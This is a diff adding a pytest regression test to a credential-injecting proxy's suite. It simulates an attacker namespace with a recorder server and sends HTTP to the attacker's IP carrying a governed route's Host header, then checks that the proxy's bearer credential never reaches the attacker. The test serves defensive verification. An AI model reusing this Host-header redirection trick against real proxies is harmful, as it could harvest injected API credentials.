@@ -14,6 +14,7 @@ import itertools
 import os
 import shutil
 import subprocess
+import sys
 import tempfile
 from pathlib import Path
 
@@ -232,3 +233,85 @@ async def test_ipv6_redirected_to_the_ipv6_listener_gets_the_credential_and_othe
     """Dual-stack pod: REDIRECT maps IPv6 connections to [::1]:15001, which the proxy listens on
     (``--listen6 auto``), and IP6T_SO_ORIGINAL_DST gives it the IPv6 upstream."""
     await _check_governed_and_tunneled(pod_netns, shared_dir, pki, ipv6=True, backend=backend)
+
+
+_RECORDER = """
+import socket, sys
+srv = socket.create_server((sys.argv[1], int(sys.argv[2])))
+print("ready", flush=True)
+srv.settimeout(20)
+with open(sys.argv[3], "ab") as out:
+    while True:
+        try:
+            conn, _ = srv.accept()
+        except TimeoutError:
+            break
+        conn.settimeout(2)
+        try:
+            data = conn.recv(65536)
+            out.write(data)
+            out.flush()
+            conn.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 4\\r\\nConnection: close\\r\\n\\r\\nevil")
+        except OSError:
+            pass
+        conn.close()
+"""
+
+
+@pytest.fixture
+def attacker_netns(pod_netns):
+    """A second namespace joined to the pod by its own veth pair: 10.234.K.1 there, .2 in the pod."""
+    pod, *_ = pod_netns
+    k = int(pod.removeprefix("sesprx"))
+    ns, a_if, p_if = f"sesevil{k}", f"vev{k}a", f"vev{k}p"
+    _run("ip", "netns", "add", ns)
+    try:
+        _run("ip", "link", "add", a_if, "netns", ns, "type", "veth", "peer", "name", p_if, "netns", pod)
+        _run("ip", "netns", "exec", ns, "ip", "addr", "add", f"10.234.{k}.1/24", "dev", a_if)
+        _run("ip", "netns", "exec", ns, "ip", "link", "set", a_if, "up")
+        _run("ip", "netns", "exec", pod, "ip", "addr", "add", f"10.234.{k}.2/24", "dev", p_if)
+        _run("ip", "netns", "exec", pod, "ip", "link", "set", p_if, "up")
+        yield ns, f"10.234.{k}.1"
+    finally:
+        subprocess.run(["ip", "netns", "del", ns], capture_output=True, check=False)
+
+
+async def test_redirected_http_naming_a_governed_host_sends_the_credential_only_to_that_host(
+    pod_netns, attacker_netns, shared_dir, tmp_path
+):
+    """The attack of issue 8: inside the pod, plain HTTP to an attacker's address with the Host of a
+    governed route. The original destination picks nothing: the proxy dials the route's own host
+    (resolved by the proxy), so the credential goes to the real API and the attacker gets nothing."""
+    require_netfilter()
+    ns, host_ip, _, _ = pod_netns
+    evil_ns, evil_ip = attacker_netns
+    api = await ApiServer(API_KEY, host_ip).start()
+    seen_by_attacker = tmp_path / "attacker.bin"
+    seen_by_attacker.touch()
+    attacker = await asyncio.create_subprocess_exec(
+        "ip", "netns", "exec", evil_ns, sys.executable, "-c", _RECORDER, evil_ip, str(api.port),
+        str(seen_by_attacker), stdout=asyncio.subprocess.PIPE,
+    )
+    assert (await asyncio.wait_for(attacker.stdout.readline(), 10)).startswith(b"ready")  # type: ignore[union-attr]
+    cp = ControlPlaneDouble(host=host_ip)
+    cp.script = {"aud-plain": [("ok", API_KEY)]}
+    cp.routes = [route("plain", "api.sesame.test", api.port, scheme="http", audience="aud-plain")]
+    await cp.start()
+    apply_rules(RedirectSettings(proxy_port=15001, proxy_uid=PROXY_UID), netns=ns)
+    pod_hosts(ns, (host_ip, "api.sesame.test"))
+    proxy = await _start_proxy(ns, shared_dir, cp)
+    try:
+        await proxy.wait_for_log("routes loaded")
+        code, err = await curl(
+            ns, "-H", f"Host: api.sesame.test:{api.port}", f"http://{evil_ip}:{api.port}/v1/hello"
+        )
+        assert code == "200", err
+        assert api.seen[-1].headers["Authorization"] == f"Bearer {API_KEY}"  # the real API got it
+        assert API_KEY.encode() not in seen_by_attacker.read_bytes()
+        assert seen_by_attacker.read_bytes() == b""  # the attacker's address was never dialled
+    finally:
+        attacker.kill()
+        await attacker.wait()
+        await proxy.stop()
+        await cp.stop()
+        await api.close()
